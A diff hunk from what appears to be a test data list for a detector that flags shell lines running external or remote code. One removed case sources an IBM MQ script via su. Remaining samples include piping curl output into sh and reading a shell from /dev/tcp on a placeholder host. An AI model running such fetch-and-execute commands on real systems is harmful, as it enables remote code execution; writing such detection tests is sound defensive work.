@@ -584,7 +584,6 @@ UNSEEN = [
         [1, 2, 3],
     ),
     ("curl h | tee >(sh) >/dev/null\nsh < /dev/tcp/h/99\nsh /dev/fd/3\n", [1, 2, 3]),
-    (". /srv/own/lib.sh\nsu - mqm -c '. /opt/mqm/samp/bin/amqauthg.sh QMA g'\n", [1, 2]),
     (". /etc/os-release\n. /opt/ibm/ace-13/server/bin/mqsiprofile\nsh /srv/own/up.sh\n", []),
     # texts in the script or in a file that it names, and settings of the shell
     ("./up.sh\n. ./lib.sh\nsh up.sh\nsh up\ncat up.sh | sh\nsh < up.ksh\n", []),
